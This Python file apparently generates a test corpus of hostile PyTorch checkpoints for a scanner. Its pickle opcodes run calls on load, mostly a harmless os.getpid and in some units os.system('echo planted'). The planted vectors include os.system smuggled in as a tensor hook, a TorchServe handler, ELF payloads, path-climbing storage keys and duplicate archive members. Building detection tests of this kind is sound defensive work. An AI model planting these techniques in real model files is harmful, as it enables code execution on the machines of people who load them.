"""PyTorch checkpoints: the zip of `torch.save`, the five pickles of the old format, and its tar form.

Source: torch/serialization.py (_load, _legacy_load). Written by hand, so that torch is not
needed.
"""

from __future__ import annotations

import io
import json
import struct
import tarfile
import zipfile
from collections.abc import Iterator
from typing import Any

from hostile_opcodes import MARK, Raw, call, getpid, named, push, stream
from hostile_units import Class, Unit

_ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(200)


def tensor(key: str = "0", count: int = 4, protocol: int = 2) -> Raw:
    """Opcodes of one float tensor over storage `key`."""
    identifier = ("storage", named("torch", "FloatStorage", protocol), key, "cpu", count)
    storage = Raw(push(identifier, protocol) + b"Q")
    hooks = call("collections", "OrderedDict", protocol=protocol)
    return call("torch._utils", "_rebuild_tensor_v2", storage, 0, (count,), (1,), False, hooks, protocol=protocol)


def state(*extra: bytes, protocol: int = 2) -> bytes:
    """The main pickle: a dictionary of one tensor, and what is planted after it."""
    inner = push("weight", protocol) + tensor(protocol=protocol) + b"".join(extra)
    return stream(b"}" + MARK + inner + b"u", protocol=protocol)


PLANTED = push("planted", 2) + getpid(2)
FLOATS = struct.pack("<4f", 0.1, 0.2, 0.3, 0.4)


def archive(members: dict[str, bytes], root: str = "archive", order: tuple[str, ...] = ()) -> bytes:
    """A checkpoint's zip: stored members, aligned as torch does not insist on."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as writer:
        for name in order or members:
            info = zipfile.ZipInfo(f"{root}/{name}" if root else name)
            writer.writestr(info, members[name])
    return out.getvalue()


def checkpoint(pickle: bytes | None = None, **more: bytes) -> dict[str, bytes]:
    """The members of an ordinary checkpoint."""
    return {
        "data.pkl": state() if pickle is None else pickle,
        "byteorder": b"little",
        "data/0": FLOATS,
        "version": b"3\n",
        ".data/serialization_id": b"1" * 40,
        **more,
    }


def legacy(
    *,
    magic: bytes | None = None,
    protocol: bytes | None = None,
    system: bytes | None = None,
    body: bytes | None = None,
    keys: bytes | None = None,
) -> bytes:
    """The old format: five pickles in a row and the storages' bytes."""
    sizes = {"short": 2, "int": 4, "long": 4}
    about = {"protocol_version": 1001, "little_endian": True, "type_sizes": sizes}
    parts = (
        magic or stream(push(0x1950A86A20F9469CFC6C, 2), protocol=2),
        protocol or stream(push(1001, 2), protocol=2),
        system or stream(push(about, 2), protocol=2),
        body or _legacy_state(),
        keys or stream(push(["0"], 2), protocol=2),
        struct.pack("<q", 4) + FLOATS,
    )
    return b"".join(parts)


def _legacy_state(*extra: bytes) -> bytes:
    identifier = ("storage", named("torch", "FloatStorage", 2), "0", "cpu", 4, None)
    storage = Raw(push(identifier, 2) + b"Q")
    hooks = call("collections", "OrderedDict", protocol=2)
    made = call("torch._utils", "_rebuild_tensor_v2", storage, 0, (4,), (1,), False, hooks, protocol=2)
    return stream(b"}" + MARK + push("weight", 2) + made + b"".join(extra) + b"u", protocol=2)


def units() -> Iterator[Unit]:
    """All of them."""
    yield from _zip()
    yield from _legacy()


def _zip() -> Iterator[Unit]:
    def unit(name: str, data: bytes, threat: str, **labels: Any) -> Unit:
        return _unit(f"zip-{name}.pt", data, threat, "torch zip", **labels)

    hostile = stream(getpid())
    for place, pickle in {
        "call": state(PLANTED),
        "call-popped": stream(getpid(2) + b"0" + state()[2:-1], protocol=2),
        "call-protocol4": state(push("planted") + getpid(), protocol=4),
        "inst": state(push("planted", 2) + call("os", "getpid", protocol=2, by="INST")),
        "before-error": stream(getpid(2), b"\xff", protocol=2),
        "second-stream": state() + stream(getpid(2), protocol=2),
        "dangerous-rebuild": state(
            push("planted", 2) + call("torch._utils", "_rebuild_device_tensor_from_numpy", getpid(2), protocol=2)
        ),
        "load-from-bytes": state(
            push("planted", 2)
            + call("torch.storage", "_load_from_bytes", push(stream(getpid(2), protocol=2), 3), protocol=2)
        ),
    }.items():
        acts = {"load": "", "proof": ""} if place in {"second-stream", "load-from-bytes"} else {}
        yield unit(place, archive(checkpoint(pickle)), f"the main pickle calls ({place})", **acts)
    hooked = named("torch._tensor", "_rebuild_from_type_v2", 2)
    yield unit(
        "rebuild-from-type",
        archive(
            checkpoint(
                state(
                    push("planted", 2)
                    + Raw(
                        hooked
                        + push(
                            (named("os", "system", 2), named("torch", "Tensor", 2), ("echo planted >/dev/null",), None),
                            2,
                        )
                        + b"R"
                    )
                )
            )
        ),
        "_rebuild_from_type_v2 calls any function it is given",
        proof="audit:os.system",
        expect="callable handed to _rebuild_from_type_v2",
    )
    wrapped = Raw(
        named("torch._utils", "_rebuild_parameter_with_state", 2)
        + push((tensor(), False, call("collections", "OrderedDict", protocol=2), {"__class__": getpid(2)}), 2)
        + b"R"
    )
    yield unit(
        "parameter-state",
        archive(checkpoint(state(push("planted", 2) + wrapped))),
        "a parameter whose state holds a call",
    )
    hook = named("os", "system", 2)
    yield unit(
        "hooks",
        archive(
            checkpoint(state(push("_forward_hooks", 2) + call("collections", "OrderedDict", [(0, hook)], protocol=2)))
        ),
        "os.system as a forward hook: called when the model is used",
        loader="the first forward pass",
        load="",
        expect="callable smuggled as a hook",
    )
    yield unit(
        "backward-hooks",
        archive(checkpoint(_with_hooks(hook))),
        "os.system among a tensor's backward hooks",
        loader="the first backward pass",
        load="",
        expect="callable in the hooks of _rebuild_tensor_v2",
    )
    dynamic = Raw(
        named("torch.fx.graph_module", "reduce_graph_module", 2)
        + push(({"_code": "def forward(self):\n  __import__('os').getpid()"}, ""), 2)
        + b"R"
    )
    yield unit(
        "graph-module",
        archive(checkpoint(state(push("planted", 2) + dynamic))),
        "a torch.fx GraphModule carries source code that is compiled",
        load="",
        expect="call of reduce_graph_module",
    )
    yield unit(
        "package",
        archive(
            checkpoint(
                state(
                    push("planted", 2) + call("torch.jit._pickle", "restore_type_tag", getpid(2), "planted", protocol=2)
                )
            )
        ),
        "restore_type_tag over a call",
    )
    yield unit(
        "persistent-callable",
        archive(checkpoint(stream(push(("storage", named("os", "system", 2), "0", "cpu", 4), 2) + b"Q", protocol=2))),
        "os.system in place of the storage's class",
        expect="persistent id with a dangerous class",
        load="",
    )
    yield unit(
        "persistent-path",
        archive(
            checkpoint(
                stream(
                    push(("storage", named("torch", "FloatStorage", 2), "../../planted", "cpu", 4), 2) + b"Q",
                    protocol=2,
                )
            )
        ),
        "the storage's key climbs out of data/",
        kind="integrity",
        expect="storage key with a path",
        load="",
    )
    yield unit(
        "other-member",
        archive(checkpoint() | {"planted.pkl": hostile}),
        "a second pickle beside data.pkl",
        loader="pickle.load of the member",
        load="",
    )
    yield unit(
        "extra-member",
        archive(checkpoint() | {"extra/planted": hostile}),
        "a pickle among extra/ files",
        loader="torch.jit extra files",
        load="",
    )
    yield unit(
        "constants",
        archive(checkpoint() | {"constants.pkl": hostile}),
        "constants.pkl calls",
        loader="a loader of constants.pkl",
        load="",
    )
    yield unit(
        "hidden-in-storage",
        archive(checkpoint() | {"data/1": hostile}),
        "a storage no tensor uses is a pickle",
        kind="integrity",
        loader="whoever opens the member",
        expect="a pickle in a storage",
        load="",
    )
    yield unit(
        "elf-in-storage",
        archive(checkpoint() | {"data/1": _ELF}),
        "a storage is a program",
        kind="integrity",
        expect="a program in a storage",
        load="",
    )
    yield unit(
        "elf-member",
        archive(checkpoint() | {"lib/planted.so": _ELF}),
        "a shared library travels along",
        kind="integrity",
        expect="a program in the archive",
        load="",
    )
    yield unit(
        "script-member",
        archive(checkpoint() | {"setup.py": b"import os\nos.system('echo planted')\n"}),
        "a script travels along",
        kind="integrity",
        expect="a script in the archive",
        load="",
    )
    yield unit(
        "two-data-pkl",
        _two_data(),
        "two members are called data.pkl: readers differ on which counts",
        load="",
        expect="duplicate member with two meanings",
    )
    yield unit(
        "data-pkl-in-two-roots",
        archive(
            {
                "a/data.pkl": state(),
                "b/data.pkl": state(PLANTED),
                "a/version": b"3\n",
                "b/version": b"3\n",
                "a/data/0": FLOATS,
                "b/data/0": FLOATS,
            },
            root="",
        ),
        "two roots, each with a data.pkl",
        load="",
        expect="call of os.getpid",
    )
    yield unit(
        "case-folded",
        archive(checkpoint() | {"DATA.PKL": state(PLANTED)}),
        "DATA.PKL beside data.pkl: one file on many systems",
        load="",
    )
    yield unit("deflated", _deflated(), "the pickle is deflated")
    yield unit(
        "tensor-beyond-storage",
        archive(checkpoint(state(push("more", 2) + _lying_tensor()))),
        "a tensor claims more than its storage holds",
        kind="integrity",
        expect="tensor beyond its storage",
        load="",
    )
    yield unit(
        "storage-missing",
        archive({"data.pkl": state(), "version": b"3\n"}),
        "the storage is missing",
        kind="integrity",
        expect="storage missing",
        load="",
    )
    yield unit("renamed-bin", archive(checkpoint(state(PLANTED))), "the same bytes, any name")
    yield Unit(
        "torch/model.safetensors",
        archive(checkpoint(state(PLANTED))),
        "code",
        "torch zip",
        "a hostile checkpoint called model.safetensors",
        "torch.load of the open file",
        "call of os.getpid",
    )
    yield Unit(
        "torch/handler.mar",
        _mar(),
        "code",
        "torch model archive",
        "a TorchServe archive whose handler runs a program",
        "torchserve",
        "call of os.system in a handler",
    )


def _with_hooks(hook: Raw) -> bytes:
    storage = Raw(push(("storage", named("torch", "FloatStorage", 2), "0", "cpu", 4), 2) + b"Q")
    hooks = call("collections", "OrderedDict", [(0, hook)], protocol=2)
    made = call("torch._utils", "_rebuild_tensor_v2", storage, 0, (4,), (1,), True, hooks, protocol=2)
    return stream(push({"weight": made}, 2), protocol=2)


def _lying_tensor() -> Raw:
    storage = Raw(push(("storage", named("torch", "FloatStorage", 2), "0", "cpu", 4), 2) + b"Q")
    return call(
        "torch._utils",
        "_rebuild_tensor_v2",
        storage,
        2**40,
        (2**30,),
        (1,),
        False,
        call("collections", "OrderedDict", protocol=2),
        protocol=2,
    )


def _two_data() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as writer:
        for pickle in (state(), state(PLANTED)):
            writer.writestr(zipfile.ZipInfo("archive/data.pkl"), pickle)
        writer.writestr(zipfile.ZipInfo("archive/data/0"), FLOATS)
        writer.writestr(zipfile.ZipInfo("archive/version"), b"3\n")
    return out.getvalue()


def _deflated() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as writer:
        for name, data in checkpoint(state(PLANTED)).items():
            info = zipfile.ZipInfo(f"archive/{name}")
            info.compress_type = zipfile.ZIP_DEFLATED
            writer.writestr(info, data)
    return out.getvalue()


def _mar() -> bytes:
    manifest = {
        "runtime": "python",
        "model": {"modelName": "m", "serializedFile": "m.pt", "handler": "handler.py", "modelVersion": "1.0"},
        "archiverVersion": "0.9",
    }
    handler = b"import os\n\n\ndef handle(data, context):\n    os.system('echo planted')\n    return data\n"
    return archive(
        {"MAR-INF/MANIFEST.json": json.dumps(manifest).encode(), "handler.py": handler, "m.pt": archive(checkpoint())},
        root="",
    )


def _legacy() -> Iterator[Unit]:
    def unit(name: str, data: bytes, threat: str, **labels: Any) -> Unit:
        return _unit(f"legacy-{name}.pt", data, threat, "torch legacy", **labels)

    planted = stream(getpid(2), protocol=2)
    number = stream(getpid(2) + b"0" + push(0x1950A86A20F9469CFC6C, 2), protocol=2)
    yield unit("magic", legacy(magic=number), "the call stands in the first pickle, before the magic number")
    yield unit(
        "magic-computed",
        legacy(
            magic=stream(
                call("operator", "add", 0x1950A86A20F9469CFC6C, Raw(getpid(2) + b"0K\x00"), protocol=2), protocol=2
            )
        ),
        "the magic number is computed",
    )
    yield unit(
        "protocol", legacy(protocol=stream(getpid(2) + b"0" + push(1001, 2), protocol=2)), "in the second pickle"
    )
    yield unit("system", legacy(system=planted), "in the third pickle")
    yield unit("state", legacy(body=_legacy_state(push("planted", 2) + getpid(2))), "in the fourth pickle")
    yield unit("keys", legacy(keys=stream(push(["0"], 2) + getpid(2) + b"0", protocol=2)), "in the fifth pickle")
    yield unit(
        "after",
        legacy() + planted,
        "after the storages",
        loader="pickle.load after torch.load",
        load="",
        kind="integrity",
        expect="a pickle after the end",
    )
    yield unit(
        "cut",
        legacy(body=_legacy_state(push("planted", 2) + getpid(2)))[:-38],
        "cut short after the call",
        expect="call of os.getpid",
    )
    yield unit(
        "storage-size-lie",
        legacy()[:-24] + struct.pack("<q", 2**50) + FLOATS,
        "a storage of 2^52 bytes",
        kind="resource",
        expect="storage beyond the file",
        load="",
    )
    yield unit("tar", _tar(), "the tar form of 2016", load="")
    yield unit("tar-storages", _tar("storages"), "the tar form, in its member storages", load="")
    yield unit(
        "bare",
        stream(push({"weight": getpid(2)}, 2), protocol=2),
        "a bare pickle called .pt",
        loader="pickle.load",
        load="pickle",
    )


def _tar(where: str = "pickle") -> bytes:
    members = {
        "sys_info": stream(push({"little_endian": True}, 2), protocol=2),
        "pickle": stream(push({}, 2), protocol=2),
        "storages": stream(push(0, 2), protocol=2),
        "tensors": stream(push(0, 2), protocol=2),
    }
    members[where] = stream(getpid(2), protocol=2)
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as writer:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            writer.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _unit(
    name: str,
    data: bytes,
    threat: str,
    format_: str,
    *,
    loader: str = "torch.load(weights_only=False)",
    kind: Class = "code",
    expect: str = "call of os.getpid",
    load: str = "torch",
    proof: str = "os:getpid",
) -> Unit:
    return Unit(f"torch/{name}", data, kind, format_, threat, loader, expect, load, proof if load else "")
